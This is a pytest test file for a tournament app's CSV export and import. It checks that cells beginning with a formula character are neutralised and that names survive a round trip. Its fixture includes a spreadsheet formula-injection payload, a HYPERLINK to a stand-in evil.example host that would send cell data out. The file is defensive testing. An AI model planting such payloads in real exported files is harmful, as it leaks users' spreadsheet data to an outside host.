"""No CSV the project writes starts a cell with a formula, and the line import reads such a
CSV back to the real names."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.pages.factories import build_tournament
from tests.tournaments.conftest import make_tournament
from tournaments.models import Entry, Line
from tournaments.services import csv_cells, entries

pytestmark = pytest.mark.django_db

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+39 Napoli",
    "-Rossi",
    "@SUM(A1:A9)",
    "\tTab",
    "\rRitorno",
    "'=già citato",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _rename_lines(tournament):
    lines = Line.objects.filter(entries__tournament=tournament).order_by("entries__seed")
    for line, name in zip(lines, NAMES, strict=False):
        Line.objects.filter(pk=line.pk).update(name=name)


def _cells(body):
    return [cell for row in csv.reader(io.StringIO(body.decode(), newline="")) for cell in row]


@pytest.mark.parametrize("kind", ["standings.csv", "results.csv"])
def test_exported_cells_never_start_a_formula(client, kind):
    tournament = build_tournament(8, slug="formule", knockout=False)
    _rename_lines(tournament)
    response = client.get(f"/export/v1/tournaments/{tournament.slug}/{kind}")
    assert response.status_code == 200
    cells = _cells(response.content)
    texts = [c for c in cells if c and not c.lstrip("-").isdigit()]
    assert not [c for c in texts if c.startswith(FORMULA)]
    assert "'-Rossi" in cells and '\'=HYPERLINK("http://evil.example/?"&A1,"clic")' in cells
    # numbers stay numbers (a negative MP is no formula)
    assert any(c.startswith("-") and c[1:].isdigit() for c in cells) or kind == "standings.csv"


def test_the_line_import_round_trips_the_real_names(client):
    tournament = build_tournament(8, slug="andata", knockout=False)
    _rename_lines(tournament)
    body = client.get(f"/export/v1/tournaments/{tournament.slug}/standings.csv").content
    exported = [row[3] for row in csv.reader(io.StringIO(body.decode(), newline=""))][1:]
    # an organizer pastes the exported names into a new import file
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["line", "player 1"])
    for n, cell in enumerate(exported):
        writer.writerow([cell, f"Giocatore {n}"])
    target = make_tournament()
    entries.import_lines_csv(target, buffer.getvalue().encode())
    imported = set(Entry.objects.filter(tournament=target).values_list("line__name", flat=True))
    originals = set(
        Line.objects.filter(entries__tournament=tournament).values_list("name", flat=True)
    )
    assert imported == originals


@given(st.text(max_size=30))
def test_neutralise_then_restore_is_the_identity(text):
    written = csv_cells.neutralise(text)
    assert not written.startswith(FORMULA)
    assert written == text or written == "'" + text
    assert csv_cells.restore(written) == text
